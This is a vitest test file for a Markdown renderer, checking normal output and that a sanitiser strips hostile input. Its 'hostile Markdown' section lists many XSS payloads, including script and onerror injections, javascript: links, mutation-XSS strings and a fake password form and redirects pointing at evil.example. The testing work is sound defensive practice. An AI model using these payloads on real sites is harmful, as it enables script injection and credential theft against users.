import fc from 'fast-check'
import { Parser } from 'htmlparser2'
import { describe, expect, test } from 'vitest'
import { runs } from '#test/random.ts'
import { renderMarkdown } from './render.ts'

const html = (markdown: string) => renderMarkdown(markdown).html.trim()

type Element = { name: string; attributes: Record<string, string> }

/** The elements of a text as a browser would read it. */
function elementsOf(text: string): Element[] {
  const found: Element[] = []
  const parser = new Parser({ onopentag: (name, attributes) => found.push({ name, attributes }) })
  parser.end(text)
  return found
}

const SAFE_TAGS =
  /^(div|h[2-6]|p|blockquote|ul|ol|li|pre|hr|br|a|b|strong|i|em|del|s|u|code|sub|sup|small|mark|abbr|kbd|table|thead|tbody|tr|th|td)$/
const SAFE_ATTRIBUTES = [
  'href',
  'rel',
  'start',
  'scope',
  'align',
  'title',
  'role',
  'aria-label',
  'tabindex',
]
const SAFE_SCHEMES = ['http:', 'https:', 'mailto:', 'tel:']

/** Where a browser would go from a page; an address that it cannot read leads nowhere. */
const isSafe = (address: string): boolean =>
  !URL.canParse(address, PAGE) || SAFE_SCHEMES.includes(new URL(address, PAGE).protocol)
const PAGE = 'https://shop.example/pages/about'

/** What of it could run, load or stand in for a part of the page. */
const dangers = (markdown: string): string[] =>
  elementsOf(renderMarkdown(markdown).html).flatMap(({ name, attributes }) => [
    ...(SAFE_TAGS.test(name) ? [] : [name]),
    ...Object.keys(attributes).filter((one) => !SAFE_ATTRIBUTES.includes(one)),
    ...(attributes.href === undefined || isSafe(attributes.href) ? [] : [attributes.href]),
  ])

describe('what a page may contain', () => {
  test.each([
    ['# One', '<h2>One</h2>'],
    ['**bold** and _leaning_', '<p><strong>bold</strong> and <em>leaning</em></p>'],
    ['a<br>b', '<p>a<br />b</p>'],
    ['[home](/)', '<p><a href="/" rel="noopener noreferrer">home</a></p>'],
    [
      '[us](https://wa.me/2348031234567)',
      '<p><a href="https://wa.me/2348031234567" rel="noopener noreferrer">us</a></p>',
    ],
    [
      '[call](tel:08031234567)',
      '<p><a href="tel:08031234567" rel="noopener noreferrer">call</a></p>',
    ],
    [
      'shop@example.com',
      '<p><a href="mailto:shop@example.com" rel="noopener noreferrer">shop@example.com</a></p>',
    ],
    ['```\n<script>1</script>\n```', '<pre><code>&lt;script&gt;1&lt;/script&gt;\n</code></pre>'],
    ['3. third', '<ol start="3">\n<li>third</li>\n</ol>'],
  ])('%j is %s', (markdown, expected) => expect(html(markdown)).toBe(expected))

  test('headings begin at the second level and leave none out', () => {
    const headings = html('### A\n\n##### B\n\n# C\n\n## D').match(/<h\d/g)
    expect(headings).toEqual(['<h2', '<h3', '<h2', '<h2'])
  })

  test('a table can be scrolled by itself, with the keyboard, too', () => {
    expect(html('|a|b|\n|-|-|\n|1|2|')).toMatch(
      /^<div role="region" aria-label="Table" tabindex="0"><table>[\s\S]*<\/table><\/div>$/,
    )
  })

  test.each([
    [
      '# Delivery\n\n> an example\n\nTo **all** [states](/x) &\n`36` more\n\nLater.',
      'To all states & 36 more',
    ],
    ['# Only a heading', ''],
    ['<b>raw</b> text', 'raw text'],
  ])('the summary of %j is %j', (markdown, summary) =>
    expect(renderMarkdown(markdown).summary).toBe(summary),
  )
})

describe('hostile Markdown', () => {
  test.each([
    '<script>alert(1)</script>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<img src=x onerror=alert(1)>',
    '![a](https://evil.example/spy.png)',
    '![a](javascript:alert(1))',
    '[a](javascript:alert(1))',
    '[a](JaVaScRiPt:alert(1))',
    '[a](java\nscript:alert(1))',
    '[a](&#106;avascript:alert(1))',
    '[a](&#x6A;avascript&colon;alert(1))',
    '[a](\u0001javascript:alert(1))',
    '[a](vbscript:x)',
    '[a](data:text/html,<script>alert(1)</script>)',
    '<javascript:alert(1)>',
    '[a]: javascript:alert(1)\n\n[a]',
    '<a href="javascript:alert(1)">a</a>',
    '<a href="//evil.example">a</a>',
    '<a href=" javascript:alert(1)">a</a>',
    '<a href="/" onclick="alert(1)" id="main" name="main" class="buy-bar" style="position:fixed">a</a>',
    '<svg onload=alert(1)><a xlink:href="javascript:alert(1)">a</a></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<form action="https://evil.example"><input name=password><button>Log in</button></form>',
    '<style>body{display:none}</style>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<template><script>alert(1)</script></template>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<textarea></textarea><script>alert(1)</script>',
    '<table id=x><tr><td background="javascript:alert(1)">a</table>',
    '<details open ontoggle=alert(1)>a</details>',
    '<h2 id="main">a</h2>',
    '<div role="region" aria-label="Table" tabindex="0" onfocus=alert(1)>a</div>',
    '`<img src=x onerror=alert(1)>`<img src=x onerror=alert(1)>',
    '<!--><script>alert(1)</script>-->',
    '<![CDATA[<script>alert(1)</script>]]>',
    '<abbr title="x" onmouseover="alert(1)">a</abbr>',
  ])('%j does nothing', (markdown) => expect(dangers(markdown)).toEqual([]))

  test('of any mixture of such parts nothing survives', () => {
    const part = fc.constantFrom(
      ...[
        '<script',
        '>',
        '</script>',
        'alert(1)',
        '<img src=x ',
        'onerror=',
        '"',
        "'",
        '<a href=',
        'javascript:',
        '<svg',
      ],
      ...[
        '[a](',
        ')',
        '`',
        '```\n',
        '\n\n',
        '\n',
        '> ',
        '* ',
        '<',
        '</',
        '<!--',
        '-->',
        '&#106;',
        '&lt;',
        '<table>',
        '|',
      ],
      ...[
        '</table>',
        '<div ',
        'onload=',
        'style=',
        ' id=main ',
        '\\',
        '[a]: ',
        '<b>',
        '</b>',
        '<style>',
        '\u0000',
        '\t',
        'data:',
      ],
    )
    const text = fc.array(fc.oneof({ weight: 4, arbitrary: part }, fc.string({ maxLength: 4 })), {
      maxLength: 30,
    })
    fc.assert(
      fc.property(text, (parts) => {
        expect(dangers(parts.join(''))).toEqual([])
      }),
      { numRuns: runs(2000) },
    )
  })
})
